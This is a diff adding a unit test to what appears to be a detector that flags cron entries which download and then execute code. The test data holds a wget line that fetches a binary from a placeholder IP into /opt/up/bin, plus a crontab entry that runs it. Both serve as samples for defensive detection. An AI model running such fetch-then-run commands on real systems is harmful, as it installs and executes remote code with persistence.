@@ -51,6 +51,18 @@ describe('what is run', () => {
     expect(first(entryFact(command))).toBe('suspicious: fetch-then-run');
   });
 
+  test('fetched by one entry and run by another is malicious in both', () => {
+    const entries = [
+      entryFact('wget -q http://192.0.2.1/up -O /opt/up/bin', { line: 1 }),
+      entryFact('/opt/up/bin', { at: '/var/spool/cron/crontabs/ada', line: 2 }),
+      entryFact('/opt/other', { line: 4 }),
+    ];
+    const told = judgeEntries(factSet(...entries), judgeContext()).map(
+      ({ judgement, reasons }) => `${judgement}: ${reasons.map(({ id }) => id).join(', ')}`,
+    );
+    expect(told).toEqual(['malicious: fetch-and-run', 'malicious: fetch-and-run', 'benign: ']);
+  });
+
   test('text that a package brought and nobody changed says nothing', () => {
     const at = '/etc/cron.d/job';
     expect(first(entryFact(fetches, { at }), integrityFact(at, 'unchanged'))).toBe('benign: ');
